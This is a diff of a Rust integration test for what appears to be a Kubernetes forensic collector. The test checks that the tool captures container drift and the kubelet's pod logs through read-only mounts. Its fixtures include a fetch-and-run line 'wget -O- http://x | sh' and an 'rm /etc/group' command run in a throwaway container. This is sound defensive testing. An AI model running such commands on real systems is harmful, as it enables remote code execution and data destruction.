@@ -423,6 +423,8 @@ fn a_container_by_a_short_lived_pod_on_its_node_with_its_drift() {
         "--label",
         "io.kubernetes.pod.name=bb",
         "--label",
+        "io.kubernetes.pod.uid=0b7c4e1d-5a6f-4c3b-8e2d-1f0a9b8c7d6e",
+        "--label",
         "io.kubernetes.container.name=main",
         docker::busybox_image(),
         "sleep",
@@ -435,7 +437,26 @@ fn a_container_by_a_short_lived_pod_on_its_node_with_its_drift() {
         "-c",
         "echo implant > /tmp/dropped-by-attacker.sh; rm /etc/group",
     ]);
-    let s = ApiServer::start(&[]);
+    // What the kubelet keeps of the container's output, where the test bed's API
+    // server mounts /var/log/pods from.
+    let kubelet_logs = tempfile::tempdir().unwrap();
+    let kept = kubelet_logs
+        .path()
+        .join(format!("{ns}_bb_0b7c4e1d-5a6f-4c3b-8e2d-1f0a9b8c7d6e/main"));
+    std::fs::create_dir_all(&kept).unwrap();
+    std::fs::write(
+        kept.join("0.log"),
+        "2026-11-30T10:00:00.000000001Z stderr F wget -O- http://x | sh\n",
+    )
+    .unwrap();
+    std::fs::write(kept.join("0.log.20261129-101010.gz"), b"rotated").unwrap();
+    let other = kubelet_logs.path().join(format!("{ns}_other_1/main"));
+    std::fs::create_dir_all(&other).unwrap();
+    std::fs::write(other.join("0.log"), "another pod's output\n").unwrap();
+    let s = ApiServer::start(&[
+        "--host-path-map",
+        &format!("/var/log/pods={}", kubelet_logs.path().display()),
+    ]);
     let out_node = s.dir.path().join("out-node");
     let o = cairn(
         &s,
@@ -507,6 +528,26 @@ fn a_container_by_a_short_lived_pod_on_its_node_with_its_drift() {
     };
     assert!(line("added", "/tmp/dropped-by-attacker.sh"), "{drift}");
     assert!(line("deleted", "/etc/group"), "{drift}");
+    // The kubelet's files of this container, rotated ones included, and no other pod's.
+    let a = cairn_testkit::archive::Archive::read(Path::new(r["archive"].as_str().unwrap()));
+    let top = format!("node/var/log/pods/{ns}_bb_0b7c4e1d-5a6f-4c3b-8e2d-1f0a9b8c7d6e/main");
+    assert!(a
+        .text(&format!("{top}/0.log"))
+        .contains("wget -O- http://x | sh"));
+    let kubelet: Vec<String> = a
+        .manifest()
+        .iter()
+        .filter(|r| r["artifact"] == "node/kubelet_logs")
+        .filter_map(|r| r["path"].as_str().map(str::to_owned))
+        .collect();
+    assert_eq!(
+        kubelet,
+        [
+            format!("{top}/0.log"),
+            format!("{top}/0.log.20261129-101010.gz")
+        ],
+        "{kubelet:?}"
+    );
     let left = docker::ok(&[
         "ps",
         "-aq",
@@ -515,8 +556,8 @@ fn a_container_by_a_short_lived_pod_on_its_node_with_its_drift() {
     ]);
     assert_eq!(left, "", "the collector pod was left behind");
     // The collector pod as cairn asked for it: in its own namespace, the runtime's
-    // state directory alone, read-only all the way down, no runtime socket, seccomp,
-    // no privilege, limited in resources and in time.
+    // state directory and the kubelet's logs alone, read-only all the way down, no
+    // runtime socket, seccomp, no privilege, limited in resources and in time.
     let log = s.log();
     let line = log
         .lines()
@@ -531,10 +572,18 @@ fn a_container_by_a_short_lived_pod_on_its_node_with_its_drift() {
         .unwrap();
     let c = &spec["containers"][0];
     let mounts = c["volumeMounts"].as_array().unwrap();
-    assert_eq!(mounts.len(), 1, "{mounts:?}");
+    assert_eq!(mounts.len(), 2, "{mounts:?}");
     assert_eq!(mounts[0]["mountPath"], "/node/var/lib/docker");
-    assert_eq!(mounts[0]["readOnly"], true);
-    assert_eq!(mounts[0]["recursiveReadOnly"], "Enabled");
+    assert_eq!(mounts[1]["mountPath"], "/node/var/log/pods");
+    for m in mounts {
+        assert_eq!(m["readOnly"], true, "{m}");
+        assert_eq!(m["recursiveReadOnly"], "Enabled", "{m}");
+    }
+    let volumes = spec["volumes"].as_array().unwrap();
+    assert!(
+        volumes.iter().all(|v| v["hostPath"]["type"] == "Directory"),
+        "{volumes:?}"
+    );
     assert!(
         !line.contains("/run/containerd") && !line.contains("docker.sock"),
         "{line}"
